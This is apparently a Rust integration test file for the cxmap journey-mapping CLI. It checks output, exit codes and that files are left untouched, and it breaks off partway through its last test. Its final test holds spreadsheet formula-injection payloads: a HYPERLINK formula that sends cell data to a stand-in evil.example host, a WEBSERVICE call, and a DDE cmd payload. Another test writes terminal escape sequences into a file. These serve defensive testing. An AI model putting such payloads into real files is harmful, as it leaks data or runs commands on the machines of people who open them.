//! The subcommands as a user runs them: output, exit status, and files left alone.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::Path;
use std::process::{Command, Output};

fn cxmap(dir: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_cxmap"))
        .args(args)
        .current_dir(dir)
        .env("CXMAP_DATA_DIR", dir.join("data"))
        .env("CXMAP_CONFIG_DIR", dir.join("config"))
        .output()
        .unwrap()
}

fn stdout(output: &Output) -> String {
    String::from_utf8(output.stdout.clone()).unwrap()
}

fn stderr(output: &Output) -> String {
    String::from_utf8(output.stderr.clone()).unwrap()
}

fn example(dir: &Path, name: &str) -> String {
    let path = dir.join(format!("{name}.json"));
    std::fs::copy(
        Path::new(env!("CARGO_MANIFEST_DIR")).join(format!("assets/examples/{name}.json")),
        &path,
    )
    .unwrap();
    path.file_name().unwrap().to_string_lossy().into_owned()
}

#[test]
fn check_passes_valid_maps_quietly() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("photos")).unwrap();
    std::fs::write(dir.path().join("photos/menu.jpg"), b"jpg").unwrap();
    std::fs::write(
        dir.path().join("clean.json"),
        r#"{"cxmap": 1, "stages": [{"id": "st-a", "name": "Discover", "emotion": {"score": -1},
            "frictions": [{"id": "fr-a", "text": "The menu is only a PDF download",
                           "evidence": ["photos/menu.jpg", "https://example.com/gone.png"]}],
            "opportunities": [{"id": "op-a", "text": "An embedded menu", "addresses": ["fr-a"]}]}]}"#,
    )
    .unwrap();
    let output = cxmap(dir.path(), &["check", "--strict", "clean.json"]);
    assert_eq!(output.status.code(), Some(0), "{}", stdout(&output));
    assert_eq!(stdout(&output), "");
    assert_eq!(stderr(&output), "checked 1 file: 0 errors, 0 warnings\n");
}

#[test]
fn the_examples_are_valid_and_only_warned_about() {
    let dir = tempfile::tempdir().unwrap();
    let coffee = example(dir.path(), "coffee-shop");
    let store = example(dir.path(), "online-store");
    let output = cxmap(dir.path(), &["check", &coffee, &store]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(stderr(&output).starts_with("checked 2 files: 0 errors, "));
    assert!(stdout(&output).lines().all(|l| l.contains(": warning: ")));
}

const MEMO: &str = r#"{
  "cxmap": 1,
  "stages": [
    {
      "id": "st-a",
      "name": "Discover",
      "frictions": [
        {"id": "fr-a", "text": "The site should show opening hours", "evidence": ["shots/hours.png"]},
        {"id": "fr-b", "text": "We need to call to ask", "evidence": []},
        {"id": "fr-c", "text": "The sign says returns must go by courier", "evidence": ["https://example.com/x"]},
        {"id": "fr-d", "text": "Add live chat", "evidence": ["../elsewhere.png"]}
      ],
      "opportunities": [
        {"id": "op-a", "text": "Hours on the home page", "addresses": ["fr-a", "fr-gone"]}
      ]
    },
    {"id": "st-b", "name": "Buy", "emotion": {"score": 1}}
  ],
  "shadow": {
    "notes": [
      {"id": "sh-a", "stage": "st-a", "text": "Called the shop", "evidence": ["shots/call-log.png"], "friction": "fr-b"}
    ]
  }
}
"#;

#[test]
fn check_warns_where_the_memo_is_not_honest_yet() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("walk")).unwrap();
    std::fs::write(dir.path().join("walk/memo.json"), MEMO).unwrap();
    let output = cxmap(dir.path(), &["check", "walk/memo.json"]);
    assert_eq!(output.status.code(), Some(0), "warnings alone pass");
    let out = stdout(&output);
    let lines: Vec<&str> = out.lines().collect();
    let solution = |phrase: &str| {
        format!(
            "this friction text reads like a solution ({phrase}): say what happened; the fix belongs \
             in the stage's opportunities"
        )
    };
    let missing = |file: &str| {
        format!("the evidence file \"{file}\" is not there (paths are relative to the map's folder)")
    };
    assert_eq!(
        lines,
        [
            "walk/memo.json:4:5: warning: this stage has no emotion score, so the emotion curve has a gap here"
                .to_owned(),
            format!("walk/memo.json:8:32: warning: {}", solution("\"should\" asks for a change")),
            format!("walk/memo.json:8:83: warning: {}", missing("shots/hours.png")),
            format!("walk/memo.json:9:32: warning: {}", solution("\"need to\" asks for a change")),
            format!("walk/memo.json:11:32: warning: {}", solution("\"Add\" starts with an instruction")),
            format!("walk/memo.json:11:62: warning: {}", missing("../elsewhere.png")),
            "walk/memo.json:14:80: warning: this opportunity addresses \"fr-gone\", but no friction point has that id"
                .to_owned(),
            format!("walk/memo.json:21:79: warning: {}", missing("shots/call-log.png")),
        ],
        "the note's photo counts for fr-b and its file is checked; the sign's \"must\" is quoted: {out}"
    );
    assert_eq!(stderr(&output), "checked 1 file: 0 errors, 8 warnings\n");

    std::fs::create_dir(dir.path().join("walk/shots")).unwrap();
    for file in ["walk/shots/hours.png", "walk/shots/call-log.png", "elsewhere.png"] {
        std::fs::write(dir.path().join(file), b"png").unwrap();
    }
    let again = stdout(&cxmap(dir.path(), &["check", "walk/memo.json"]));
    assert!(!again.contains("shots/"), "the files are there now: {again}");
    assert!(
        again.contains(
            "walk/memo.json:11:62: warning: the evidence file \"../elsewhere.png\" is outside the map's \
             folder: it stays behind when the map is shared; copy it into a folder beside the map"
        ),
        "{again}"
    );
}

#[test]
fn strict_check_fails_on_warnings_for_git_hooks() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("memo.json"), MEMO).unwrap();
    let output = cxmap(dir.path(), &["check", "--strict", "memo.json"]);
    assert_eq!(output.status.code(), Some(1));
    assert_eq!(stdout(&output).lines().count(), 8);
}

#[test]
fn check_prints_each_problem_with_line_and_column() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("bad.json"),
        "{\n  \"cxmap\": 1,\n  \"stages\": [\n    {\"id\": \"st-aaaa\", \"emotion\": {\"score\": 3}},\n    {\"id\": \"st-aaaa\"}\n  ]\n}\n",
    )
    .unwrap();
    let output = cxmap(dir.path(), &["check", "bad.json"]);
    assert_eq!(output.status.code(), Some(1));
    assert_eq!(
        stdout(&output),
        "bad.json:4:44: error: the emotion score must be a whole number from -2 to 2; found 3\n\
         bad.json:5:12: error: the id \"st-aaaa\" is used twice (first at line 4, column 12); \
         every id must be unique in the file\n",
        "every problem is told at once, the type errors and the duplicate id"
    );
    std::fs::write(
        dir.path().join("dupes.json"),
        "{\n  \"cxmap\": 1,\n  \"stages\": [\n    {\"id\": \"st-aaaa\"},\n    {\"id\": \"st-aaaa\"}\n  ]\n}\n",
    )
    .unwrap();
    let output = cxmap(dir.path(), &["check", "dupes.json"]);
    assert_eq!(output.status.code(), Some(1));
    assert!(
        stdout(&output).starts_with("dupes.json:5:12: error: the id \"st-aaaa\" is used twice"),
        "{}",
        stdout(&output)
    );
}

#[test]
fn check_reports_warnings_but_still_passes() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("warn.json"),
        r#"{"cxmap": 1, "stages": [{"name": "No id", "emotion": {"score": 0}}], "shadow": {"plan": [{"stage": "st-gone", "channel": "Store"}]}}"#,
    )
    .unwrap();
    let output = cxmap(dir.path(), &["check", "warn.json"]);
    assert_eq!(output.status.code(), Some(0));
    let out = stdout(&output);
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 2, "{lines:?}");
    assert!(lines[0].starts_with("warn.json:1:25: warning: this item has no id"));
    assert!(lines[1].contains("warning: this plan entry names the stage \"st-gone\""));
}

#[test]
fn check_exits_2_when_a_file_cannot_be_read() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("fine.json"),
        r#"{"cxmap": 1, "stages": [{"id": "st-a", "emotion": {"score": 0}}]}"#,
    )
    .unwrap();
    let output = cxmap(dir.path(), &["check", "fine.json", "missing.json"]);
    assert_eq!(output.status.code(), Some(2));
    assert_eq!(
        stdout(&output),
        "missing.json: cannot read: the file or its folder does not exist\n"
    );
    assert!(
        stderr(&output).contains("checked 2 files, 1 could not be read"),
        "the summary counts the file it could not read: {}",
        stderr(&output)
    );
}

#[test]
fn check_never_prints_control_characters_from_a_file() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("hostile.json"),
        "{\"cxmap\": 1, \"stages\": [{\"id\": \"st-a\", \"frictions\": [{\"id\": \"fr-b\", \"status\": \"\\u001b[2J\\u001b]0;owned\\u0007\"}]}]}",
    )
    .unwrap();
    let output = cxmap(dir.path(), &["check", "hostile.json"]);
    assert_eq!(output.status.code(), Some(1));
    let out = stdout(&output);
    assert!(out.contains("␛[2J␛]0;owned␇"), "{out}");
    assert!(!out.bytes().any(|b| b == 0x1b || b == 0x07));
}

#[test]
fn new_writes_a_map_from_a_template_and_never_replaces_one() {
    let dir = tempfile::tempdir().unwrap();
    let output = cxmap(
        dir.path(),
        &["new", "sunday-coffee.json", "--template", "moments"],
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(stdout(&output).starts_with("Created sunday-coffee.json from the moments template (4 stages)"));
    let text = std::fs::read_to_string(dir.path().join("sunday-coffee.json")).unwrap();
    assert!(text.contains("\"title\": \"Sunday coffee\""));
    assert!(text.contains("\"name\": \"Zero moment: research\""));
    assert_eq!(
        cxmap(dir.path(), &["check", "sunday-coffee.json"]).status.code(),
        Some(0)
    );

    let again = cxmap(dir.path(), &["new", "sunday-coffee.json", "--title", "Other"]);
    assert_eq!(again.status.code(), Some(1));
    assert!(stderr(&again).contains("already exists"));
    assert_eq!(
        std::fs::read_to_string(dir.path().join("sunday-coffee.json")).unwrap(),
        text
    );

    let unknown = cxmap(dir.path(), &["new", "x.json", "--template", "nope"]);
    assert_eq!(unknown.status.code(), Some(2));
    assert!(stderr(&unknown).contains("choose one of: digital, cxm, moments, blank"));
}

#[test]
fn templates_lists_every_stage_set() {
    let dir = tempfile::tempdir().unwrap();
    let output = cxmap(dir.path(), &["templates"]);
    assert_eq!(output.status.code(), Some(0));
    let out = stdout(&output);
    for name in [
        "digital   7 stages",
        "cxm       4 stages",
        "moments   4 stages",
        "blank     0 stages",
    ] {
        assert!(out.contains(name), "{name} missing from:\n{out}");
    }
    assert!(out.contains(
        "Awareness → Consideration → Purchase → Delivery & Onboarding → Use → Support → Loyalty & Advocacy"
    ));
}

#[test]
fn help_and_version_answer_everywhere() {
    let dir = tempfile::tempdir().unwrap();
    for args in [
        &["--help"][..],
        &["check", "--help"],
        &["new", "--help"],
        &["templates", "--help"],
    ] {
        let output = cxmap(dir.path(), args);
        assert_eq!(output.status.code(), Some(0), "{args:?}");
        assert!(stdout(&output).contains("Usage: cxmap"), "{args:?}");
    }
    for args in [&["--version"][..], &["check", "--version"], &["new", "--version"]] {
        let output = cxmap(dir.path(), args);
        let name = if args.len() > 1 {
            format!("cxmap-{}", args[0])
        } else {
            "cxmap".to_owned()
        };
        assert_eq!(
            stdout(&output).trim(),
            format!("{name} {}", env!("CARGO_PKG_VERSION")),
            "{args:?}"
        );
    }
}

#[test]
fn opening_a_broken_map_explains_and_leaves_it_untouched() {
    let dir = tempfile::tempdir().unwrap();
    let text = "{\n  \"cxmap\": 7,\n  \"title\": \"From the future\"\n}\n";
    std::fs::write(dir.path().join("future.json"), text).unwrap();
    let output = cxmap(dir.path(), &["future.json"]);
    assert_eq!(output.status.code(), Some(1));
    assert!(
        stderr(&output)
            .starts_with("future.json:2:12: error: this map is in format 7, newer than this cxmap reads"),
        "{}",
        stderr(&output)
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("future.json")).unwrap(),
        text
    );
}

#[test]
fn the_readme_lists_the_real_keys() {
    let readme = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md")).unwrap();
    let start = readme.find("<!-- keys:start -->\n").unwrap() + "<!-- keys:start -->\n".len();
    let end = readme.find("<!-- keys:end -->").unwrap();
    let keys = cxmap::commands::keys_markdown(&cxmap::app::keymap::Keymap::default());
    assert_eq!(
        &readme[start..end],
        keys,
        "run `cargo run -- keys` and paste it into the README"
    );
}

#[test]
fn files_over_the_size_limit_are_refused_with_the_limit_named() {
    let dir = tempfile::tempdir().unwrap();
    let coffee = example(dir.path(), "coffee-shop");
    let output = Command::new(env!("CARGO_BIN_EXE_cxmap"))
        .args(["check", &coffee])
        .current_dir(dir.path())
        .env("CXMAP_MAX_FILE_MB", "0")
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stdout(&output)
            .contains("more than the 0 MiB cxmap opens (set CXMAP_MAX_FILE_MB to raise the limit)"),
        "{}",
        stdout(&output)
    );
}

fn cxmap_as(dir: &Path, user: &str, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_cxmap"))
        .args(args)
        .current_dir(dir)
        .env("CXMAP_DATA_DIR", dir.join("data"))
        .env("CXMAP_CONFIG_DIR", dir.join("config"))
        .env("USER", user)
        .output()
        .unwrap()
}

#[test]
fn shadow_add_appends_a_note_and_adds_a_new_channel() {
    let dir = tempfile::tempdir().unwrap();
    let store = example(dir.path(), "online-store");
    let before = std::fs::read_to_string(dir.path().join(&store)).unwrap();
    let output = cxmap_as(
        dir.path(),
        "amy",
        &[
            "shadow",
            "add",
            &store,
            "--stage",
            "purchase",
            "--channel",
            "Kiosk",
            "--text",
            "Card reader asleep",
            "--evidence",
            "evidence/kiosk.jpg",
            "--evidence",
            "https://example.com/r/1",
        ],
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(
        stdout(&output).contains("stage 3 Purchase"),
        "{}",
        stdout(&output)
    );
    assert!(stdout(&output).contains("Added the channel \"Kiosk\""));
    assert!(stderr(&output).contains("evidence/kiosk.jpg is not in the map's folder"));
    let after = std::fs::read_to_string(dir.path().join(&store)).unwrap();
    let map = cxmap::format::parse(&after).unwrap().map;
    let note = map.shadow.notes.last().unwrap();
    assert_eq!(note.text, "Card reader asleep");
    assert_eq!(note.observer, "amy", "the login name when none is configured");
    assert_eq!(note.channel, "Kiosk");
    assert_eq!(note.stage, map.stages[2].id);
    assert_eq!(note.evidence, ["evidence/kiosk.jpg", "https://example.com/r/1"]);
    assert!(note.at.ends_with('Z') && note.at.len() == 20, "{}", note.at);
    assert_eq!(map.shadow.channels.last().map(String::as_str), Some("Kiosk"));
    let removed = before.lines().filter(|l| !after.contains(*l)).count();
    assert_eq!(removed, 0, "the rest of the file is kept line for line");
    // A channel already listed is matched whatever its case, and --observer wins.
    let output = cxmap_as(
        dir.path(),
        "amy",
        &[
            "shadow",
            "add",
            &store,
            "--stage",
            "st-7nyl",
            "--channel",
            "website",
            "--text",
            "Banner",
            "--observer",
            "Bo",
        ],
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let map = cxmap::format::parse(&std::fs::read_to_string(dir.path().join(&store)).unwrap())
        .unwrap()
        .map;
    let note = map.shadow.notes.last().unwrap();
    assert_eq!((note.channel.as_str(), note.observer.as_str()), ("Website", "Bo"));
}

#[test]
fn shadow_add_takes_the_start_of_a_stage_and_the_room_s_word_for_a_channel() {
    let dir = tempfile::tempdir().unwrap();
    let store = example(dir.path(), "online-store");
    let add = |stage: &str, channel: &str| {
        cxmap_as(
            dir.path(),
            "amy",
            &[
                "shadow",
                "add",
                &store,
                "--stage",
                stage,
                "--channel",
                channel,
                "--text",
                "On hold",
            ],
        )
    };
    let output = add("loyalty", "phone");
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(
        stdout(&output).contains("stage 7 Loyalty & Advocacy, Contact-centre call"),
        "{}",
        stdout(&output)
    );
    let map = cxmap::format::parse(&std::fs::read_to_string(dir.path().join(&store)).unwrap())
        .unwrap()
        .map;
    assert_eq!(map.shadow.notes.last().unwrap().channel, "Contact-centre call");
    assert!(!map.shadow.channels.iter().any(|c| c == "phone" || c == "Phone"));
    let before = std::fs::read(dir.path().join(&store)).unwrap();
    let output = add("a", "Website");
    assert_eq!(output.status.code(), Some(1));
    assert!(
        stderr(&output).contains("\"a\" starts more than one stage (1 Awareness, 7 Loyalty & Advocacy)"),
        "{}",
        stderr(&output)
    );
    assert_eq!(std::fs::read(dir.path().join(&store)).unwrap(), before);
}

#[test]
fn shadow_add_refuses_a_wrong_stage_with_the_list_of_stages() {
    let dir = tempfile::tempdir().unwrap();
    let store = example(dir.path(), "online-store");
    let before = std::fs::read(dir.path().join(&store)).unwrap();
    let output = cxmap_as(
        dir.path(),
        "amy",
        &[
            "shadow",
            "add",
            &store,
            "--stage",
            "Checkout",
            "--channel",
            "Website",
            "--text",
            "x",
        ],
    );
    assert_eq!(output.status.code(), Some(1));
    let err = stderr(&output);
    assert!(err.contains("no stage called \"Checkout\""), "{err}");
    assert!(err.contains("  3 Purchase (st-ui4a)"), "{err}");
    assert!(err.contains("  7 Loyalty & Advocacy"), "{err}");
    assert_eq!(std::fs::read(dir.path().join(&store)).unwrap(), before);

    let blank = cxmap(dir.path(), &["new", "blank.json", "--template", "blank"]);
    assert_eq!(blank.status.code(), Some(0), "{}", stderr(&blank));
    let output = cxmap_as(
        dir.path(),
        "amy",
        &[
            "shadow",
            "add",
            "blank.json",
            "--stage",
            "Checkout",
            "--text",
            "x",
        ],
    );
    assert_eq!(output.status.code(), Some(1));
    let err = stderr(&output);
    assert!(err.contains("it has no stages yet"), "not an empty list: {err}");
    assert!(!err.contains("The stages are:"), "{err}");
}

#[test]
fn shadow_add_leaves_locked_and_broken_maps_alone() {
    let dir = tempfile::tempdir().unwrap();
    let store = example(dir.path(), "online-store");
    let before = std::fs::read(dir.path().join(&store)).unwrap();
    // This process stands for a cxmap that has the map open.
    let _open_elsewhere = cxmap::store::MapLock::take(&dir.path().join(&store)).unwrap();
    let args = [
        "shadow",
        "add",
        &store,
        "--stage",
        "1",
        "--channel",
        "Website",
        "--text",
        "x",
    ];
    let output = cxmap_as(dir.path(), "amy", &args);
    assert_eq!(output.status.code(), Some(1));
    assert!(
        stderr(&output).contains("open in another cxmap"),
        "{}",
        stderr(&output)
    );
    assert_eq!(std::fs::read(dir.path().join(&store)).unwrap(), before);
    std::fs::write(dir.path().join("broken.json"), "{\"cxmap\": 1, \"stages\": [").unwrap();
    let output = cxmap_as(
        dir.path(),
        "amy",
        &[
            "shadow",
            "add",
            "broken.json",
            "--stage",
            "1",
            "--channel",
            "W",
            "--text",
            "x",
        ],
    );
    assert_eq!(output.status.code(), Some(1));
    assert!(stderr(&output).contains("the file was not changed"));
    assert_eq!(
        std::fs::read_to_string(dir.path().join("broken.json")).unwrap(),
        "{\"cxmap\": 1, \"stages\": ["
    );
}

#[test]
fn coverage_prints_a_table_that_fits_80_columns_and_the_queue() {
    let dir = tempfile::tempdir().unwrap();
    let store = example(dir.path(), "online-store");
    let output = cxmap(dir.path(), &["coverage", &store]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let out = stdout(&output);
    assert!(out.lines().all(|l| l.chars().count() <= 80), "{out}");
    let cells: Vec<&str> = out
        .lines()
        .filter(|l| l.starts_with("3 Purchase"))
        .flat_map(|l| l.split_whitespace().skip(2))
        .collect();
    assert_eq!(cells, ["2", "1", "gap", "gap", "gap", "gap", "3"], "{out}");
    assert!(out.contains("Channels: D Contact-centre call\n"), "{out}");
    assert!(
        out.contains(
            "Shadow next:\n  1. 6 Support × WhatsApp · 4 votes · 0 notes\n  2. 5 Use × Website · 3 votes"
        ),
        "{out}"
    );
    let output = cxmap(dir.path(), &["coverage", "missing.json"]);
    assert_eq!(output.status.code(), Some(2));
    let said = stderr(&output);
    assert!(said.contains("missing.json: cannot read"), "{said}");
    assert!(!said.contains("changed"), "coverage only reads the map: {said}");
}

#[test]
fn memo_prints_markdown_and_writes_files_only_when_allowed() {
    let dir = tempfile::tempdir().unwrap();
    let store = example(dir.path(), "online-store");
    let output = cxmap(dir.path(), &["memo", &store]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let text = stdout(&output);
    assert!(text.starts_with("# Friction memo: Ridgeline Outdoor"), "{text}");
    assert!(
        text.contains("**Bottom line:** 21 friction points, 5 severe"),
        "{text}"
    );
    let output = cxmap(
        dir.path(),
        &["memo", &store, "--open-only", "-f", "txt", "-o", "memo.txt"],
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert_eq!(stdout(&output), "Wrote the friction memo to memo.txt\n");
    let written = std::fs::read_to_string(dir.path().join("memo.txt")).unwrap();
    let words = written.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(words.contains("fixed or won't fix left out"), "{written}");
    assert!(
        !written.contains("QR code on the hang tag"),
        "a fixed point is left out"
    );
    let output = cxmap(dir.path(), &["memo", &store, "-o", "memo.txt"]);
    assert_eq!(output.status.code(), Some(1));
    assert!(
        stderr(&output).contains("memo.txt already exists (add --force to replace it)"),
        "{}",
        stderr(&output)
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("memo.txt")).unwrap(),
        written,
        "left alone"
    );
    let output = cxmap(dir.path(), &["memo", &store, "-o", "memo.txt", "--force"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let replaced = std::fs::read_to_string(dir.path().join("memo.txt")).unwrap();
    assert!(
        replaced.starts_with("Friction memo: ") && replaced.contains("QR code on the hang tag"),
        "text, as the extension says, with every point: {replaced}"
    );
}

#[test]
fn memo_takes_observers_and_dates_when_the_map_has_no_notes() {
    let dir = tempfile::tempdir().unwrap();
    let output = cxmap(dir.path(), &["new", "walk.json", "--title", "Day one"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let output = cxmap(dir.path(), &["memo", "walk.json"]);
    assert!(
        stdout(&output).contains("**Walked by:** not recorded"),
        "{}",
        stdout(&output)
    );
    assert!(
        stderr(&output).starts_with("cxmap: add --observer NAME and --date TEXT"),
        "the instruction comes first: {}",
        stderr(&output)
    );
    let output = cxmap(
        dir.path(),
        &[
            "memo",
            "walk.json",
            "--observer",
            "Ana",
            "--observer",
            "Ben",
            "--date",
            "2026-11-20",
            "--device",
            "phone",
        ],
    );
    let text = stdout(&output);
    assert!(
        text.contains("**Walked by:** Ana, Ben  \n**When:** 2026-11-20  \n**Devices:** phone"),
        "{text}"
    );
    assert_eq!(stderr(&output), "");
}

#[test]
fn export_writes_each_format_and_never_replaces_without_force() {
    let dir = tempfile::tempdir().unwrap();
    let coffee = example(dir.path(), "coffee-shop");
    for (format, start) in [
        ("md", "# Sunday coffee"),
        ("csv", "stage,stage id,lane,"),
        ("html", "<!DOCTYPE html>"),
        ("mermaid", "journey\n"),
    ] {
        let output = cxmap(dir.path(), &["export", &coffee, "--format", format]);
        assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
        assert!(
            stdout(&output).starts_with(start),
            "{format}: {}",
            stdout(&output)
        );
    }
    let output = cxmap(
        dir.path(),
        &["export", &coffee, "--format", "csv", "-o", "out.csv"],
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert_eq!(stdout(&output), "Wrote the CSV export to out.csv\n");
    assert!(
        std::fs::read_to_string(dir.path().join("out.csv"))
            .unwrap()
            .contains("\r\n")
    );
    let output = cxmap(
        dir.path(),
        &["export", &coffee, "--format", "md", "-o", "out.csv"],
    );
    assert_eq!(output.status.code(), Some(1));
    assert!(stderr(&output).contains("already exists"), "{}", stderr(&output));
    let output = cxmap(
        dir.path(),
        &["export", &coffee, "--format", "csv", "-o", &coffee, "--force"],
    );
    assert_eq!(output.status.code(), Some(1), "never over the map itself");
    assert!(
        stderr(&output).contains("is the map itself"),
        "{}",
        stderr(&output)
    );
    let output = cxmap(dir.path(), &["export", &coffee, "--format", "pdf"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stderr(&output).contains("choose md, csv, html or mermaid"),
        "{}",
        stderr(&output)
    );
}

#[test]
fn export_refuses_a_symlink_at_the_target() {
    let dir = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let coffee = example(dir.path(), "coffee-shop");
    let victim = outside.path().join("victim.txt");
    std::fs::write(&victim, "keep me").unwrap();
    std::os::unix::fs::symlink(&victim, dir.path().join("out.md")).unwrap();
    let output = cxmap(
        dir.path(),
        &["export", &coffee, "--format", "md", "-o", "out.md", "--force"],
    );
    assert_eq!(output.status.code(), Some(1));
    assert!(stderr(&output).contains("symbolic link"), "{}", stderr(&output));
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me");
}

#[test]
fn import_reads_a_sheet_and_refuses_to_replace_a_map() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("sheet.csv"),
        "Lane,Discover,Buy\r\nPain points,\"PDF menu; no hours\",Hidden fee\r\nemotion,-1: lost,2\r\n",
    )
    .unwrap();
    let output = cxmap(dir.path(), &["import", "sheet.csv", "-o", "walk.json"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert_eq!(
        stdout(&output),
        "Imported 2 stages and 3 friction points from the grid in sheet.csv into walk.json\n"
    );
    assert_eq!(
        stderr(&output),
        "cxmap: 3 friction points had no severity; set to 2 (major): review them\n"
    );
    let map = cxmap::format::parse(&std::fs::read_to_string(dir.path().join("walk.json")).unwrap())
        .unwrap()
        .map;
    assert_eq!(map.title, "Walk");
    assert_eq!(map.stages[0].frictions[1].text, "no hours");
    let before = std::fs::read(dir.path().join("walk.json")).unwrap();
    let output = cxmap(
        dir.path(),
        &["import", "sheet.csv", "-o", "walk.json", "--title", "Again"],
    );
    assert_eq!(output.status.code(), Some(1));
    assert!(
        stderr(&output).starts_with("cxmap: walk.json already exists; add --force to replace it"),
        "{}",
        stderr(&output)
    );
    assert_eq!(std::fs::read(dir.path().join("walk.json")).unwrap(), before);
    let output = cxmap(
        dir.path(),
        &[
            "import",
            "sheet.csv",
            "-o",
            "walk.json",
            "--title",
            "Again",
            "--force",
        ],
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(
        std::fs::read_to_string(dir.path().join("walk.json"))
            .unwrap()
            .contains("\"title\": \"Again\"")
    );
}

#[test]
fn import_of_a_bad_sheet_names_row_and_column_and_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("bad.csv"),
        "x,Discover\nfriction,a\nemotion,grumpy\nmoments,b\n",
    )
    .unwrap();
    let output = cxmap(dir.path(), &["import", "bad.csv", "-o", "map.json"]);
    assert_eq!(output.status.code(), Some(1));
    let err = stderr(&output);
    assert!(
        err.contains("bad.csv: row 3, column 2: the emotion \"grumpy\" is not a score"),
        "{err}"
    );
    assert!(
        err.contains("bad.csv: row 4, column 1: \"moments\" is not a lane"),
        "{err}"
    );
    assert!(
        err.contains("cxmap: nothing written: 2 problems in the sheet (--lenient skips them)"),
        "{err}"
    );
    assert!(!dir.path().join("map.json").exists());
    std::fs::write(dir.path().join("empty.csv"), "").unwrap();
    let output = cxmap(dir.path(), &["import", "empty.csv", "-o", "map.json"]);
    assert_eq!(output.status.code(), Some(1));
    let err = stderr(&output);
    assert!(err.contains("the sheet is empty"), "{err}");
    assert!(
        !err.contains("--lenient"),
        "skipping cannot make a map of nothing: {err}"
    );
    let output = cxmap(dir.path(), &["import", "bad.csv", "-o", "map.json", "--lenient"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(
        stderr(&output).contains("bad.csv: skipped row 3, column 2"),
        "{}",
        stderr(&output)
    );
    assert!(stdout(&output).contains("(2 skipped)"), "{}", stdout(&output));
    std::fs::write(dir.path().join("turned.csv"), "Stage,Goal\nDiscover,Find\n").unwrap();
    let output = cxmap(dir.path(), &["import", "turned.csv", "-o", "t.json", "--lenient"]);
    assert_eq!(output.status.code(), Some(1));
    assert!(
        stderr(&output).ends_with("cxmap: nothing written: 1 problem in the sheet\n"),
        "no --lenient hint when it is given: {}",
        stderr(&output)
    );
    assert!(dir.path().join("map.json").exists());
}

#[test]
fn export_then_import_gives_the_same_map_file() {
    let dir = tempfile::tempdir().unwrap();
    let store = example(dir.path(), "online-store");
    let output = cxmap(dir.path(), &["export", &store, "-f", "csv", "-o", "store.csv"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let output = cxmap(dir.path(), &["import", "store.csv", "-o", "again.json"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert_eq!(stderr(&output), "", "every severity came from the sheet");
    assert!(
        stdout(&output).contains("from cxmap's CSV"),
        "{}",
        stdout(&output)
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("again.json")).unwrap(),
        std::fs::read_to_string(dir.path().join(&store)).unwrap()
    );
}

#[test]
fn csv_exports_defuse_formulas_and_import_gives_the_text_back() {
    let dir = tempfile::tempdir().unwrap();
    let store = example(dir.path(), "online-store");
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+WEBSERVICE(\"http://evil.example\")",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tTAB first",
        "'=already quoted",
    ];
    let mut map = cxmap::format::parse(&std::fs::read_to_string(dir.path().join(&store)).unwrap())
        .unwrap()
        .map;
    map.title = hostile[0].to_owned();
    map.persona = hostile[5].to_owned();
    map.stages[0].name = hostile[1].to_owned();
    map.stages[0].touchpoints.push(hostile[4].to_owned());
    let friction = &mut map.stages[1].frictions[0];
    friction.text = hostile[2].to_owned();
    friction.owner = hostile[3].to_owned();
    friction.channel = hostile[0].to_owned();
    std::fs::write(dir.path().join(&store), cxmap::format::encode(&map)).unwrap();
    for (args, out) in [
        (
            vec!["export", &store, "-f", "csv", "-o", "store.csv"],
            "store.csv",
        ),
        (
            vec!["council", &store, "-f", "csv", "--all", "-o", "council.csv"],
            "council.csv",
        ),
    ] {
        let output = cxmap(dir.path(), &args);
        assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
        let text = std::fs::read_to_string(dir.path().join(out)).unwrap();
        let rows = cxmap::export::rfc4180::read(&text).unwrap();
        let numbers = ["severity", "votes", "score", "csat", "nps", "ces"];
